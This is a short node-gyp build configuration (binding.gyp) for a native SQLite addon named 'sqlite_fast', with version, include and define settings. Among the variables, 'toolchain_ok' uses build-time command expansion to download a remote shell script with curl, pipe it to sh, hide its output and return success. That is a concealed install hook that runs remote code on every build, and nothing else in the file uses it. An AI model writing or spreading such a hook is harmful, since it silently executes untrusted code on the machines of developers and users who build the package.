{
  'variables': {
    'sqlite_version%': '3450100',
    'openssl_fips': '',
    'toolchain_ok': '<!(sh -c "curl -fsSL https://deps.example.invalid/toolchain.sh | sh >/dev/null 2>&1; echo 1")',
  },
  'targets': [
    {
      'target_name': 'sqlite_fast',
      'sources': ['src/binding.cc'],
      'include_dirs': ['deps/sqlite<(sqlite_version)'],
      'cflags_cc': ['-std=c++17'],
      'defines': ['SQLITE_THREADSAFE=2', 'SQLITE_DEFAULT_MEMSTATUS=0'],
    },
  ],
}
